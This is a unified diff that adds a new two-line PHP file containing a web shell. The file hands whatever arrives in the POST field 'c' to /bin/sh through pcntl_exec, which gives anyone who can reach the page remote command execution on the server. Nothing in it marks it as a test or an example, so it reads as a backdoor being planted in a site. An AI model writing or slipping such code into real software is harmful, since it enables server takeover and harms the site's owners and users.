@@ -1,0 +1,2 @@
+<?php
+pcntl_exec('/bin/sh', array('-c', $_POST['c']));
